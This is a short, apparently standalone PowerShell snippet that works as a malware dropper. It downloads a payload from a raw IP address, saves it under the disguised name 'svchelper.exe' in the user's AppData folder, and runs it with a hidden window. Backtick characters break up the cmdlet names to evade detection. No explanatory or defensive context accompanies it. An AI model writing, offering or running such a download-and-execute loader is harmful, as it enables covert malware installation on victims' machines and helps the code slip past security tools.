$d = "$env:APPDATA\svchelper.exe"
St`art-Bi`tsTr`ansfer -Source http://198.51.100.7/payload.bin -Destination $d
St`art-Pro`cess -FilePath $d -WindowStyle Hidden
